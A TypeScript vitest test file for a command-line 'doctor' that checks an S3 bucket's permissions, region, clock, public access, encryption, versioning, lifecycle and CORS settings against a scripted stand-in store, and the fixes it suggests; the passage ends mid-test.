import type { OutgoingHttpHeaders } from 'node:http'
import { expect, it, onTestFinished, vi } from 'vitest'
import { connectToBucket } from '../../src/cli/doctor/bucket.js'
import { prescribeCors } from '../../src/cli/doctor/cors.js'
import type { Finding } from '../../src/cli/doctor/finding.js'
import type { DoctorSettings } from '../../src/cli/doctor/options.js'
import { type DoctorOptions, runDoctor } from '../../src/cli/doctor.js'
import { createLyingStore } from '../storage/lying-store.js'
import {
  ABORT,
  createBucketStandIn,
  encryption,
  lifecycle,
  publicAccessBlock,
  type Question,
  type Scripted,
  xml,
} from './bucket-stand-in.js'
import { CREDENTIALS, examine, worse } from './doctor/run.js'

const BUCKET = 'archive'
const SECRETS = /canary|X-Amz-|AKIDOFATEST/

/** Examines a bucket that is well set up but for the scripted answers. */
async function examineBucket(
  scripted: Partial<Record<Question, Scripted>>,
  { settings = {}, ...options }: Partial<Omit<DoctorOptions, 'settings'>> & { settings?: Partial<DoctorSettings> } = {},
) {
  const store = await createBucketStandIn(scripted)
  onTestFinished(() => store.close())
  const examined = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: store.endpoint, ...settings },
    { credentials: CREDENTIALS, ...options },
  )
  expect(examined.text).not.toMatch(SECRETS)
  // The note that there is no access token.
  const [token, ...findings] = examined.findings
  expect(token).toMatchObject({ check: 'access token', severity: 'note' })
  return { ...examined, store, findings, worse: worse(findings) }
}

const denied: Scripted = { status: 403, code: 'AccessDenied' }
const missing = (code: string): Scripted => ({ status: 404, code })
const notThere: Scripted = { status: 501, code: 'NotImplemented' }

it('runDoctor finds nothing to mend in a bucket that is well set up, and leaves nothing there', async () => {
  const { findings, exitCode, store } = await examineBucket({})
  expect(findings.map(({ check, severity }) => [check, severity])).toEqual(
    [
      'bucket',
      'clock',
      'write',
      'read',
      'head',
      'signed URL',
      'delete',
      'public access',
      'default encryption',
      'block public access',
      'versioning',
      'lifecycle',
      'probe: write',
    ].map((check) => [check, 'ok']),
  )
  expect(exitCode).toBe(0)
  expect(store.objects).toEqual([])
})

it("runDoctor asks once for a list without a signature, of the doctor's own prefix and of no more", async () => {
  const { store, findings } = await examineBucket({}, { settings: { prefix: 'media/' } })
  const lists = store.requests.filter((_, index) => store.questions[index] === 'unsigned list')
  expect(lists).toEqual([`GET /${BUCKET}/?list-type=2&prefix=media%2Fdoctor%2F&max-keys=1`])
  expect(findings.find(({ check }) => check === 'public access')?.finding).toBe(
    'Without a signature, reading and listing are refused',
  )
})

it.each<Question>(['PUT object', 'GET object'])(
  'runDoctor asks for a list without a signature also where a denied %s leaves nothing to read',
  async (question) => {
    const { findings } = await examineBucket({
      [question]: denied,
      'unsigned list': { status: 200, body: xml('ListBucketResult', '') },
    })
    expect(findings.find(({ check }) => check === 'public access')).toMatchObject({
      severity: 'error',
      finding: expect.stringMatching(/^The bucket was listed without a signature/),
    })
  },
)

const objects = 'arn:aws:s3:::archive/whatsapp-media/*'
const allow = (action: string, resource = 'arn:aws:s3:::archive') => ({
  statements: [{ Effect: 'Allow', Action: [action], Resource: resource }],
})

const BROKEN: readonly (readonly [
  name: string,
  scripted: Partial<Record<Question, Scripted>>,
  expected: Omit<Partial<Finding>, 'finding'> & { finding: RegExp; exitCode: number },
])[] = [
  [
    'no public access block',
    { publicAccessBlock: missing('NoSuchPublicAccessBlockConfiguration') },
    {
      check: 'block public access',
      severity: 'warning',
      finding: /^It is off$/,
      fix: {
        advice: expect.stringMatching(/^Turn all of it on; with Ceph 16 leave BlockPublicAcls out/),
        command: expect.stringMatching(
          /^aws s3api put-public-access-block --bucket archive --public-access-block-configuration BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true --endpoint-url http:\/\/127\.0\.0\.1:\d+$/,
        ),
      },
      exitCode: 1,
    },
  ],
  [
    'a public access block with one setting off',
    {
      publicAccessBlock: {
        status: 200,
        body: publicAccessBlock('BlockPublicAcls', 'IgnorePublicAcls', 'BlockPublicPolicy'),
      },
    },
    { check: 'block public access', severity: 'warning', finding: /^Off: RestrictPublicBuckets$/, exitCode: 1 },
  ],
  [
    'a public policy',
    { policyStatus: { status: 200, body: xml('PolicyStatus', '<IsPublic>true</IsPublic>') } },
    {
      check: 'public access',
      severity: 'error',
      finding: /open to everyone: the bucket policy, or its access control list, is public/,
      fix: expect.objectContaining({ command: expect.stringContaining('put-public-access-block') }),
      exitCode: 2,
    },
  ],
  [
    'objects that anyone reads',
    { 'unsigned GET': { status: 200, body: 'Written by the doctor, to be removed at once.' } },
    {
      check: 'public access',
      severity: 'error',
      finding: /read without a signature: look at access control lists/,
      exitCode: 2,
    },
  ],
  [
    'a bucket that anyone lists',
    { 'unsigned list': { status: 200, body: xml('ListBucketResult', '<KeyCount>0</KeyCount>') } },
    {
      check: 'public access',
      severity: 'error',
      finding: /^The bucket was listed without a signature .*: look at access control lists and the policy$/,
      fix: {
        advice: expect.stringMatching(
          /^Block public access, make the bucket's access control list private, .*; with Ceph 16 leave BlockPublicAcls out/,
        ),
        command: expect.stringMatching(
          /^aws s3api put-public-access-block --bucket archive .*\naws s3api put-bucket-acl --bucket archive --acl private --endpoint-url \S+$/,
        ),
      },
      exitCode: 2,
    },
  ],
  [
    'a store that does not say whether anyone lists',
    { 'unsigned list': { status: 503, code: 'SlowDown' } },
    {
      check: 'public access',
      severity: 'note',
      finding: /^Without a signature, reading is refused; of listing no answer told$/,
      exitCode: 0,
    },
  ],
  [
    'no default encryption',
    { encryption: missing('ServerSideEncryptionConfigurationNotFoundError') },
    {
      check: 'default encryption',
      severity: 'warning',
      finding: /no default encryption/,
      fix: expect.objectContaining({
        command: expect.stringContaining(
          `'{"Rules":[{"ApplyServerSideEncryptionByDefault":{"SSEAlgorithm":"AES256"}}]}'`,
        ),
      }),
      exitCode: 1,
    },
  ],
  [
    'SSE-KMS without a bucket key',
    { encryption: { status: 200, body: encryption('aws:kms', { key: 'alias/media' }) } },
    {
      check: 'default encryption',
      severity: 'note',
      finding: /without a bucket key/,
      fix: expect.objectContaining({
        command: expect.stringContaining(
          `{"SSEAlgorithm":"aws:kms","KMSMasterKeyID":"alias/media"},"BucketKeyEnabled":true`,
        ),
      }),
      exitCode: 0,
    },
  ],
  [
    "SSE-KMS with AWS's own key, without a bucket key",
    { encryption: { status: 200, body: encryption('aws:kms') } },
    {
      check: 'default encryption',
      severity: 'note',
      finding: /without a bucket key/,
      fix: expect.objectContaining({
        command: expect.stringContaining(`{"SSEAlgorithm":"aws:kms"},"BucketKeyEnabled":true`),
      }),
      exitCode: 0,
    },
  ],
  [
    'no lifecycle',
    { lifecycle: missing('NoSuchLifecycleConfiguration') },
    {
      check: 'lifecycle',
      severity: 'note',
      finding: /^No rule removes uploads that were never completed$/,
      fix: expect.objectContaining({
        lifecycle: {
          Rules: [
            {
              ID: 'abort-multipart',
              Status: 'Enabled',
              Filter: { Prefix: '' },
              AbortIncompleteMultipartUpload: { DaysAfterInitiation: 7 },
            },
          ],
        },
        command: expect.stringContaining('put-bucket-lifecycle-configuration --bucket archive'),
      }),
      exitCode: 0,
    },
  ],
  [
    'no permission to list',
    { 'HEAD bucket': { status: 403, headers: { 'x-amz-bucket-region': 'eu-central-1' } }, 'list-type': denied },
    {
      check: 'bucket',
      severity: 'note',
      finding: /listing it is denied \(AccessDenied\)/,
      fix: expect.objectContaining(allow('s3:ListBucket')),
      exitCode: 0,
    },
  ],
  [
    'no permission to see the encryption',
    { encryption: denied },
    {
      check: 'default encryption',
      severity: 'note',
      finding: /^Not checked: s3:GetEncryptionConfiguration is denied$/,
      fix: expect.objectContaining(allow('s3:GetEncryptionConfiguration')),
      exitCode: 0,
    },
  ],
  [
    'a server without versioning',
    { versioning: notThere },
    { check: 'versioning', severity: 'note', finding: /^Not on this server \(NotImplemented\)$/, exitCode: 0 },
  ],
  [
    'a server that refuses a method',
    { lifecycle: { status: 405, code: 'MethodNotAllowed' } },
    { check: 'lifecycle', severity: 'note', finding: /^Not on this server/, exitCode: 0 },
  ],
  [
    'a server at fault',
    { versioning: { status: 500, code: 'InternalError' } },
    { check: 'versioning', severity: 'note', finding: /^Could not be read \(InternalError\)$/, exitCode: 0 },
  ],
  [
    'no permission to read',
    { 'GET object': denied },
    {
      check: 'read',
      severity: 'error',
      finding: /^s3:GetObject is denied below whatsapp-media\/ \(AccessDenied\)$/,
      fix: expect.objectContaining(allow('s3:GetObject', objects)),
      exitCode: 2,
    },
  ],
  [
    'a store that answers reads with a fault',
    { 'GET object': { status: 400, code: 'InvalidRequest' } },
    { check: 'read', severity: 'error', finding: /answers s3:GetObject with InvalidRequest, HTTP 400/, exitCode: 2 },
  ],
  [
    'a store that loses what it took',
    { 'GET object': missing('NoSuchKey') },
    { check: 'read', severity: 'error', finding: /not there/, exitCode: 2 },
  ],
  [
    'a store that changes bytes',
    { 'GET object': { status: 200, body: 'other' } },
    { check: 'read', severity: 'error', finding: /Other bytes/, exitCode: 2 },
  ],
  [
    'a proxy that forbids HEAD',
    { 'HEAD object': { status: 403 } },
    {
      check: 'head',
      severity: 'error',
      finding: /^HEAD is refused although GET is not/,
      fix: expect.objectContaining(allow('s3:GetObject', objects)),
      exitCode: 2,
    },
  ],
  [
    'a proxy without HEAD',
    { 'HEAD object': { status: 405 } },
    { check: 'head', severity: 'error', finding: /^HEAD tells of .*HTTP 405/, exitCode: 2 },
  ],
  [
    'a HEAD that finds nothing',
    { 'HEAD object': { status: 404 } },
    { check: 'head', severity: 'error', finding: /another object, or none/, exitCode: 2 },
  ],
  [
    'a HEAD with another size',
    { 'HEAD object': { status: 200, headers: { 'content-length': 7 } } },
    { check: 'head', severity: 'error', finding: /another object, or none/, exitCode: 2 },
  ],
  [
    'signed URLs that are refused',
    { 'signed GET': denied },
    {
      check: 'signed URL',
      severity: 'error',
      finding: /^A signed URL is answered with HTTP 403 \(127\.0\.0\.1:\d+\), although/,
      exitCode: 2,
    },
  ],
]

it.each(BROKEN)('runDoctor names %s once, with what mends it', async (_name, scripted, expected) => {
  const { worse: found, exitCode } = await examineBucket(scripted)
  const { exitCode: expectedCode, finding, ...rest } = expected
  expect(found).toEqual([
    { ...('fix' in rest ? {} : { fix: found[0]?.fix }), ...rest, finding: expect.stringMatching(finding) },
  ])
  expect(exitCode).toBe(expectedCode)
})

const UNENCRYPTED: Partial<Record<Question, Scripted>> = {
  encryption: missing('ServerSideEncryptionConfigurationNotFoundError'),
}

it.each<[string, Partial<Record<Question, Scripted>>]>([
  ['refuses to encrypt', { 'encrypted PUT': { status: 400, code: 'InvalidArgument' } }],
  ['takes the header and forgets it', { 'encrypted PUT': { status: 200, headers: { etag: '"1"' } } }],
  [
    'answers without a rule',
    { encryption: { status: 200, body: xml('ServerSideEncryptionConfiguration', '') }, 'encrypted PUT': notThere },
  ],
])(
  'runDoctor prescribes no default encryption, which would refuse every put, to a server that %s',
  async (_name, scripted) => {
    const { worse: found, exitCode, store } = await examineBucket({ ...UNENCRYPTED, ...scripted })
    expect(found).toMatchObject([
      { check: 'default encryption', severity: 'note', finding: expect.stringMatching(/no keys/) },
    ])
    expect(found[0]?.fix).not.toHaveProperty('command')
    expect(exitCode).toBe(0)
    expect(store.objects).toEqual([])
  },
)

it('runDoctor does not try to encrypt where it could not remove the object', async () => {
  const { worse: found, store } = await examineBucket({ ...UNENCRYPTED, 'DELETE object': denied })
  expect(found.find(({ check }) => check === 'default encryption')).toMatchObject({ severity: 'warning' })
  expect(store.questions).not.toContain('encrypted PUT')
  expect(store.objects).toHaveLength(1)
})

it('runDoctor names the key too when SSE-KMS may be what denies', async () => {
  const key = 'arn:aws:kms:eu-central-1:111122223333:key/0a'
  const { worse: found } = await examineBucket({
    encryption: { status: 200, body: encryption('aws:kms', { key, bucketKey: true }) },
    'GET object': denied,
  })
  expect(found.map(({ fix }) => fix?.statements)).toEqual([
    [
      { Effect: 'Allow', Action: ['s3:GetObject'], Resource: objects },
      { Effect: 'Allow', Action: ['kms:Decrypt'], Resource: key },
    ],
  ])
})

it('runDoctor tells a denied write once, and that nothing else could be tried', async () => {
  const { worse: found, exitCode } = await examineBucket({ 'PUT object': denied, 'GET object': denied })
  expect(found.map(({ check, severity }) => [check, severity])).toEqual([
    ['write', 'error'],
    ['read', 'note'],
    ['probe', 'note'],
  ])
  expect(found[0]?.finding).toBe('s3:PutObject is denied below whatsapp-media/ (AccessDenied)')
  expect(found[0]?.fix).toMatchObject(allow('s3:PutObject', objects))
  expect(exitCode).toBe(2)
})

it('runDoctor knows from a clear "there is none" that reading is allowed', async () => {
  const { findings } = await examineBucket({ 'PUT object': { status: 400, code: 'InvalidRequest' } })
  expect(findings.find(({ check }) => check === 'write')?.finding).toBe(
    'The store answers s3:PutObject with InvalidRequest, HTTP 400',
  )
  expect(findings.find(({ check }) => check === 'read')).toMatchObject({ severity: 'ok' })
})

it('runDoctor says which object stays when it may not delete, and leaves the probe out', async () => {
  const { worse: found, store, exitCode } = await examineBucket({ 'DELETE object': denied })
  const [path] = store.objects
  expect(found.map(({ check, severity }) => [check, severity])).toEqual([
    ['delete', 'note'],
    ['probe', 'note'],
  ])
  expect(`/${BUCKET}/${found[0]?.finding.replace(/^.*: /, '')}`).toBe(path)
  expect(found[0]?.fix).toMatchObject(allow('s3:DeleteObject', 'arn:aws:s3:::archive/whatsapp-media/doctor/*'))
  expect(exitCode).toBe(0)
})

it.each([
  ['301', { status: 301 }],
  ['400', { status: 400 }],
  ['403', { status: 403 }],
])('runDoctor names the right region when a HEAD is answered with %s, and stops', async (_name, { status }) => {
  const { findings, store, exitCode } = await examineBucket({
    'HEAD bucket': { status, headers: { 'x-amz-bucket-region': 'ap-south-1' } },
  })
  expect(worse(findings)).toEqual([
    {
      check: 'region',
      severity: 'error',
      finding: 'archive is in ap-south-1, and the settings say eu-central-1',
      fix: { advice: 'Set the region of the bucket', command: 'export AWS_REGION=ap-south-1' },
    },
  ])
  expect(exitCode).toBe(2)
  expect(new Set(store.questions)).toEqual(new Set(['HEAD bucket']))
})

it('runDoctor warns of another region where the store answers in spite of it', async () => {
  const { worse: found, exitCode } = await examineBucket({
    'HEAD bucket': { status: 200, headers: { 'x-amz-bucket-region': 'ap-south-1' } },
  })
  expect(found).toMatchObject([{ check: 'region', severity: 'warning' }])
  expect(exitCode).toBe(1)
})

it.each([
  [
    'a missing bucket',
    missing('NoSuchBucket'),
    /^There is no bucket archive \(127/,
    /^aws s3api create-bucket --bucket archive --region eu-central-1 --endpoint-url /,
  ],
  [
    'a wrong key id',
    { status: 403, code: 'InvalidAccessKeyId' },
    /does not accept the credentials \(InvalidAccessKeyId\)/,
    /sts get-caller/,
  ],
  [
    'a wrong secret key',
    { status: 403, code: 'SignatureDoesNotMatch' },
    /does not accept the credentials/,
    /sts get-caller/,
  ],
  [
    'an ended session',
    { status: 400, code: 'ExpiredToken' },
    /does not accept the credentials \(ExpiredToken\)/,
    /sts get-caller/,
  ],
  ['a web server that is no store', { status: 404, body: '<html>' }, /with [A-Za-z]+( 404)?, HTTP 404$/, undefined],
  ['a store at fault', { status: 500, code: 'InternalError' }, /with InternalError, HTTP 500$/, undefined],
] as const)('runDoctor gives %s one clear line, and stops', async (_name, answer, finding, command) => {
  const {
    worse: found,
    exitCode,
    store,
  } = await examineBucket({
    'HEAD bucket': { status: answer.status },
    'list-type': answer,
  })
  expect(found).toMatchObject([{ check: 'bucket', severity: 'error', finding: expect.stringMatching(finding) }])
  expect(found[0]?.fix?.command ?? '').toMatch(command ?? /^$/)
  expect(exitCode).toBe(2)
  expect(store.questions).not.toContain('PUT object')
})

it('runDoctor tells an address from the name of a bucket', async () => {
  const { worse: found } = await examineBucket({}, { settings: { bucket: 's3://archive' } })
  expect(found).toMatchObject([{ check: 'bucket', finding: 's3://archive is no name of a bucket' }])
})

it('runDoctor makes a bucket in us-east-1 without a location, which would be refused', async () => {
  const { worse: found } = await examineBucket(
    { 'HEAD bucket': { status: 404 }, 'list-type': missing('NoSuchBucket') },
    { settings: { region: 'us-east-1' } },
  )
  expect(found[0]?.fix?.command).toMatch(/^aws s3api create-bucket --bucket archive --region us-east-1 --endpoint-url /)
})

const NOON = Date.UTC(2026, 10, 22, 12)

it.each([
  ['ahead of', 3_600_000, 'error', 2],
  ['behind', -3_600_000, 'error', 2],
  ['ahead of', 300_000, 'warning', 1],
])('runDoctor tells when this clock is %s the store by %i ms', async (words, skew, severity, expectedCode) => {
  const headers = { date: new Date(NOON).toUTCString(), 'x-amz-bucket-region': 'eu-central-1' }
  const { worse: found, exitCode } = await examineBucket(
    { 'HEAD bucket': { status: 200, headers } },
    { now: () => NOON + skew },
  )
  expect(found).toMatchObject([{ check: 'clock', severity, fix: { command: 'sudo timedatectl set-ntp true' } }])
  expect(found[0]?.finding).toContain(`This clock is ${Math.abs(skew) / 1_000} s ${words} the store`)
  expect(exitCode).toBe(expectedCode)
})

it('runDoctor says nothing of clocks where the store does not', async () => {
  const { findings } = await examineBucket({
    'HEAD bucket': { status: 200, headers: { date: 'soon', 'x-amz-bucket-region': 'eu-central-1' } },
  })
  expect(findings.map(({ check }) => check)).not.toContain('clock')
})

it('runDoctor tells that a store cannot be reached', async () => {
  const gone = await createBucketStandIn()
  await gone.close()
  const { findings, exitCode } = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: gone.endpoint },
    { credentials: CREDENTIALS },
  )
  expect(findings.slice(1)).toMatchObject([
    {
      check: 'bucket',
      severity: 'error',
      finding: expect.stringMatching(/^The store cannot be reached: ECONNREFUSED \(127\.0\.0\.1:\d+\)$/),
    },
  ])
  expect(exitCode).toBe(2)
})

it('runDoctor gives a store that never answers its time, and no more', async () => {
  const store = await createLyingStore('never answers')
  onTestFinished(() => store.close())
  const { findings } = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: store.endpoint },
    { credentials: CREDENTIALS, timeoutMs: 50 },
  )
  expect(findings[1]?.finding).toMatch(/^The store cannot be reached: timeout /)
})

it('runDoctor tells when there are no credentials', async () => {
  const none = Object.assign(new Error('none'), { name: 'CredentialsProviderError' })
  const { findings, exitCode } = await examine(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: 'http://127.0.0.1:1' },
    { credentials: () => Promise.reject(none) },
  )
  expect(findings.slice(1)).toMatchObject([
    { check: 'bucket', severity: 'error', finding: expect.stringMatching(/no AWS credentials/) },
  ])
  expect(exitCode).toBe(2)
})

it('runDoctor tells when signed URLs lead to a place that cannot be reached', async () => {
  const gone = await createBucketStandIn()
  await gone.close()
  const { worse: found } = await examineBucket({}, { settings: { publicEndpoint: gone.endpoint } })
  expect(found).toMatchObject([
    {
      check: 'signed URL',
      severity: 'error',
      finding: expect.stringMatching(/cannot be read: ECONNREFUSED \(127\.0\.0\.1:\d+\)/),
    },
  ])
  expect(found[0]?.fix?.advice).toContain('--public-endpoint')
})

it('runDoctor tells when signed URLs die with the credentials', async () => {
  const expiration = new Date(Date.now() + 600_000)
  const { worse: found } = await examineBucket(
    {},
    { credentials: { ...CREDENTIALS, sessionToken: 'canary', expiration } },
  )
  expect(found).toMatchObject([{ check: 'signed URL', severity: 'note' }])
  expect(found[0]?.finding).toContain(expiration.toISOString())
})

const ORIGIN = 'https://app.example.com'
const BODY = 'Written by the doctor, to be removed at once.'
const ALL_HEADERS = 'etag, content-length,Content-Range , content-disposition'
const corsAnswer = (headers: OutgoingHttpHeaders): Partial<Record<Question, Scripted>> => ({
  'signed GET': { status: 200, headers, body: BODY },
})

it.each([
  ['its origin', { 'access-control-allow-origin': ORIGIN, 'access-control-expose-headers': ALL_HEADERS }],
  ['any origin', { 'access-control-allow-origin': '*', 'access-control-expose-headers': '*' }],
])('runDoctor is content with a store that lets scripts of %s read', async (_name, headers) => {
  const { findings } = await examineBucket(corsAnswer(headers), { settings: { origins: [ORIGIN] } })
  expect(findings.find(({ check }) => check === 'CORS')).toEqual({
    check: 'CORS',
    severity: 'ok',
    finding: 'Scripts of https://app.example.com may read signed URLs',
  })
})

it.each([
  ['no origin', {}, /^Scripts of https:\/\/app\.example\.com may not read signed URLs/],
  [
    'another origin',
    { 'access-control-allow-origin': 'https://other.example' },
    /^Scripts of https:\/\/app\.example\.com may not/,
  ],
  [
    'its origin without any header',
    { 'access-control-allow-origin': ORIGIN },
    /^Scripts may read signed URLs, but not their headers ETag, Content-Length, Content-Range, Content-Disposition$/,
  ],
  [
    'its origin without some headers',
    { 'access-control-allow-origin': ORIGIN, 'access-control-expose-headers': 'ETag, Content-Range' },
    /^Scripts may read signed URLs, but not their headers Content-Length, Content-Disposition$/,
  ],
])('runDoctor prescribes CORS when the store allows %s', async (_name, headers, finding) => {
  const { worse: found, exitCode } = await examineBucket(corsAnswer(headers), { settings: { origins: [ORIGIN] } })
  expect(found).toEqual([
    {
      check: 'CORS',
      severity: 'warning',
      finding: expect.stringMatching(finding),
      fix: {
        advice: expect.stringContaining('rules that the bucket has already are in it'),
        cors: prescribeCors([ORIGIN]),
        command: expect.stringMatching(
          /^aws s3api put-bucket-cors --bucket archive --cors-configuration file:\/\/cors\.json --endpoint-url /,
        ),
      },
    },
  ])
  expect(exitCode).toBe(1)
})

it("runDoctor keeps the bucket's CORS rules, after its own", async () => {
  const rule =
    '<CORSRule><AllowedMethod>PUT</AllowedMethod><AllowedOrigin>https://upload.example</AllowedOrigin></CORSRule>'
  const { worse: found } = await examineBucket(
    { ...corsAnswer({}), cors: { status: 200, body: xml('CORSConfiguration', rule) } },
    { settings: { origins: [ORIGIN] } },
  )
  expect(found[0]?.fix?.cors).toEqual({
    CORSRules: [
      ...prescribeCors([ORIGIN]).CORSRules,
      { AllowedMethods: ['PUT'], AllowedOrigins: ['https://upload.example'] },
    ],
  })
})

it('runDoctor says that its CORS rules replace others when it may not see those', async () => {
  const { worse: found } = await examineBucket({ ...corsAnswer({}), cors: denied }, { settings: { origins: [ORIGIN] } })
  expect(found[0]?.fix?.advice).toContain('it replaces all rules of the bucket, which could not be read')
})

it('runDoctor prescribes CORS for a bucket that answers with a configuration without rules', async () => {
  const { worse: found } = await examineBucket(
    { ...corsAnswer({}), cors: { status: 200, body: xml('CORSConfiguration', '') } },
    { settings: { origins: [ORIGIN] } },
  )
  expect(found[0]?.fix?.cors).toEqual(prescribeCors([ORIGIN]))
})

it('runDoctor says that CORS was not checked when no signed URL could be read', async () => {
  const { worse: found } = await examineBucket({ 'signed GET': denied }, { settings: { origins: [ORIGIN] } })
  expect(found.find(({ check }) => check === 'CORS')).toMatchObject({ severity: 'note' })
})

const VERSIONED: Scripted = { status: 200, body: xml('VersioningConfiguration', '<Status>Enabled</Status>') }

it('runDoctor warns of versions that nothing removes, and keeps the rules that there are', async () => {
  const { worse: found, exitCode } = await examineBucket({ versioning: VERSIONED })
  expect(found).toMatchObject([
    { check: 'versioning', severity: 'note' },
    { check: 'lifecycle', severity: 'warning', finding: 'No rule removes older versions' },
  ])
  expect(found[1]?.fix?.lifecycle).toEqual({
    Rules: [
      {
        ID: 'abort',
        Status: 'Enabled',
        Filter: { Prefix: '' },
        AbortIncompleteMultipartUpload: { DaysAfterInitiation: 3 },
      },
      {
        ID: 'older-versions',
        Status: 'Enabled',
        Filter: { Prefix: 'whatsapp-media/' },
        NoncurrentVersionExpiration: { NoncurrentDays: 1 },
      },
    ],
  })
  expect(exitCode).toBe(1)
})

it('runDoctor keeps the smallest size for transitions that the bucket answers with its rules', async () => {
  const { worse: found } = await examineBucket({
    versioning: VERSIONED,
    lifecycle: {
      status: 200,
      headers: { 'x-amz-transition-default-minimum-object-size': 'varies_by_storage_class' },
      body: lifecycle(ABORT),
    },
  })
  expect(found[1]?.fix?.command).toContain(' --transition-default-minimum-object-size varies_by_storage_class ')
})

it('runDoctor knows that suspended versioning keeps the older versions that there are', async () => {
  const { worse: found } = await examineBucket({
    versioning: { status: 200, body: xml('VersioningConfiguration', '<Status>Suspended</Status>') },
  })
  expect(found).toMatchObject([
    { check: 'versioning', severity: 'note', finding: expect.stringMatching(/^Suspended: older versions/) },
    { check: 'lifecycle', severity: 'warning', finding: 'No rule removes older versions' },
  ])
})

it('runDoctor is content with versions that a rule removes', async () => {
  const rule =
    '<ID>old</ID><Prefix>whatsapp-media/</Prefix><NoncurrentVersionExpiration><NoncurrentDays>1</NoncurrentDays></NoncurrentVersionExpiration>'
  const { worse: found } = await examineBucket({
    versioning: VERSIONED,
    lifecycle: { status: 200, body: lifecycle(ABORT, rule) },
  })
  expect(found).toMatchObject([{ check: 'versioning', severity: 'note' }])
})

it('runDoctor leaves the probe out when asked to', async () => {
  const { findings } = await examineBucket({}, { settings: { probe: false } })
  expect(findings.filter(({ check }) => check.startsWith('probe'))).toEqual([])
})

it('runDoctor gives the probe its own prefix, and tells when it broke off', async () => {
  const probe = vi.fn(() => Promise.reject(Object.assign(new Error('canary'), { code: 'ECONNRESET' })))
  const { worse: found, store } = await examineBucket({}, { probe, settings: { prefix: 'media/' } })
  expect(probe).toHaveBeenCalledExactlyOnceWith(
    { bucket: BUCKET, region: 'eu-central-1', endpoint: store.endpoint, credentials: CREDENTIALS },
    { prefix: 'media/doctor/', timeoutMs: 15_000 },
  )
  expect(found).toEqual([{ check: 'probe', severity: 'warning', finding: 'It broke off: ECONNRESET' }])
})

it('runDoctor ends with its signal once the probe has ended with it, and prints nothing', async () => {
  const interrupts = new AbortController()
  const reason = new Error('interrupted')
  const probe = vi.fn<DoctorOptions['probe']>(async (_options, { signal }) => {
    interrupts.abort(reason)
    throw signal?.reason
  })
  await expect(examineBucket({}, { probe, signal: interrupts.signal })).rejects.toBe(reason)
  expect(probe).toHaveBeenCalledOnce()
})

it('runDoctor refuses a prefix that no key may have', async () => {
  await expect(examineBucket({}, { settings: { prefix: 'no-slash' } })).rejects.toMatchObject({ option: 'prefix' })
})

const stubRegion = (region: string | undefined) => {
  for (const name of ['AWS_DEFAULT_REGION', 'AWS_PROFILE']) vi.stubEnv(name, undefined)
  vi.stubEnv('AWS_REGION', region)
  vi.stubEnv('AWS_CONFIG_FILE', '/nonexistent')
  vi.stubEnv('AWS_SHARED_CREDENTIALS_FILE', '/nonexistent')
}

it('runDoctor tells when there is no region', async () => {
  stubRegion(undefined)
  const { findings, exitCode } = await examine({ bucket: BUCKET }, { credentials: CREDENTIALS })
  expect(findings.slice(1)).toMatchObject([
    {
      check: 'region',
      severity: 'error',
      finding: expect.stringMatching(/^There is no region/),
      fix: { command: 'export AWS_REGION=us-east-1' },
    },
  ])
  expect(exitCode).toBe(2)
})

it.each([
  ['with a space, of the environment', 'us east', undefined],
  ['that is empty, of the environment', '', undefined],
  ['that is a secret by mistake, given', undefined, CREDENTIALS.secretAccessKey.replaceAll('-', '/')],
])('runDoctor tells a region %s, from a missing one, and does not repeat it', async (_name, ofEnvironment, region) => {
  stubRegion(ofEnvironment)
  const settings = { bucket: BUCKET, ...(region === undefined ? {} : { region }) }
  const { findings, exitCode, text } = await examine(settings, { credentials: CREDENTIALS })
  expect(findings.slice(1)).toMatchObject([
    {
      check: 'region',
      severity: 'error',
      finding: "What is set as the region is no region's name: the AWS SDK takes letters, digits and hyphens only",
      fix: { command: 'export AWS_REGION=us-east-1' },
    },
  ])
  expect(text).not.toMatch(/us east|canary/)
  expect(exitCode).toBe(2)
})

it("runDoctor takes another fault of the region's for neither, and a region that an older SDK lets pass for malformed", async () => {
  const regions = [() => Promise.reject(new Error('canary')), async () => '-canary']
  vi.doMock('@aws-sdk/client-s3', () => ({
    S3Client: class {
      config = { region: regions.shift() }
      middlewareStack = { add() {} }
    },
  }))
  onTestFinished(() => void vi.doUnmock('@aws-sdk/client-s3'))
  const found = []
  for (const _ of [1, 2]) found.push((await examine({ bucket: BUCKET }, { credentials: CREDENTIALS })).findings[1])
  expect(found).toMatchObject([
    { check: 'bucket', finding: 'Not checked: the AWS SDK does not start (Error)' },
    { check: 'region', finding: expect.stringMatching(/^What is set as the region is no region's name/) },
  ])
})

it.each([
  ['another fault by its code', Object.assign(new Error('canary'), { code: 'EACCES' }), 'EACCES'],
  ['another fault by its name', new TypeError('canary'), 'TypeError'],
])('runDoctor tells %s that keeps the AWS SDK from starting', async (_name, error, reason) => {
  vi.doMock('@aws-sdk/client-s3', () => ({
    S3Client: class {
      constructor() {
        throw error
      }
    },
  }))
  onTestFinished(() => void vi.doUnmock('@aws-sdk/client-s3'))
  const { findings, exitCode, text } = await examine(
    { bucket: BUCKET, region: 'eu-central-1' },
    { credentials: CREDENTIALS },
  )
  expect(findings.slice(1)).toMatchObject([
    { check: 'bucket', severity: 'error', finding: `Not checked: the AWS SDK does not start (${reason})` },
  ])
  expect(text).not.toContain('canary')
  expect(exitCode).toBe(2)
})

it('runDoctor tells when the AWS SDK is not installed', async () => {
  vi.doMock('@aws-sdk/client-s3', () => {
    throw Object.assign(new Error('none'), { code: 'ERR_MODULE_NOT_FOUND' })
  })
  onTestFinished(() => void vi.doUnmock('@aws-sdk/client-s3'))
  const { findings } = await examine({ bucket: BUCKET }, { credentials: CREDENTIALS })
  expect(findings.slice(1)).toMatchObject([
    { check: 'bucket', severity: 'error', fix: { command: expect.stringContaining('npm install @aws-sdk/client-s3') } },
  ])
})

it('runDoctor prints for people, with region and credentials from the environment', async () => {
  const store = await createBucketStandIn()
  onTestFinished(() => store.close())
  vi.stubEnv('AWS_REGION', 'eu-central-1')
  vi.stubEnv('AWS_ACCESS_KEY_ID', CREDENTIALS.accessKeyId)
  vi.stubEnv('AWS_SECRET_ACCESS_KEY', CREDENTIALS.secretAccessKey)
  const written: string[] = []
  const exitCode = await runDoctor({
    settings: { origins: [], json: false, probe: false, bucket: BUCKET, endpoint: store.endpoint },
    output: { write: (text) => written.push(text) },
    probe: () => Promise.reject(new Error('not asked for')),
  })
